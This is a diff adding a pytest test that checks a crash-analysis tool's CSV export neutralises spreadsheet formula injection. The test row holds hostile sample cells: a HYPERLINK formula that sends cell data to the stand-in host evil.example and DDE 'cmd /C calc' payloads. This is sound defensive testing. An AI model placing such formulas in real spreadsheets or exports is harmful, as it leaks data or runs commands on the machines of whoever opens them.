@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import json
 import os
 from pathlib import Path
@@ -11,6 +12,8 @@ from scan_helpers import healthy_job, oom_job, tar_job, write
 
 from crashlens.batch.job import analyze_job
 from crashlens.batch.jobs import discover_jobs, glob_matches
+from crashlens.batch.output import write_table
+from crashlens.batch.row import JobRow
 
 
 def _jobs(root: Path, glob: str | None = None, exclude: Path | None = None) -> dict[str, str]:
@@ -187,3 +190,33 @@ def test_a_link_inside_the_root_to_a_folder_is_not_a_second_job(tmp_path: Path) 
     healthy_job(root / "job-1")
     (root / "latest").symlink_to(root / "job-1")
     assert _jobs(root) == {"job-1": "folder"}
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_inert_and_numbers_stay_numbers(
+    tmp_path: Path,
+) -> None:
+    row = JobRow(
+        job='=HYPERLINK("http://evil.example/?"&A1,"open")',
+        verdict="unknown",
+        confidence=0.5,
+        summary="+cmd|' /C calc'!A0",
+        evidence="@SUM(1+1)*cmd|' /C calc'!A0",
+        hosts=["-2+3", "node-1"],
+        skipped=["\tlog: tab first"],
+        reason="\rcarriage return first",
+        signature="a=1 is fine in the middle",
+        files=2,
+        bytes=-5,
+        seconds=-0.25,
+    )
+    (path,) = write_table([row], tmp_path, ["csv"])
+    with path.open(newline="", encoding="utf-8") as handle:
+        (cells,) = list(csv.DictReader(handle))
+    for name in ("job", "summary", "evidence", "hosts", "skipped", "reason"):
+        assert cells[name].startswith("'"), name
+    assert cells["job"] == "'" + row.job
+    assert cells["hosts"] == "'-2+3;node-1"
+    assert cells["signature"] == "a=1 is fine in the middle"
+    assert cells["verdict"] == "unknown"
+    assert (cells["files"], cells["bytes"], cells["seconds"]) == ("2", "-5", "-0.25")
+    assert cells["confidence"] == "0.5"
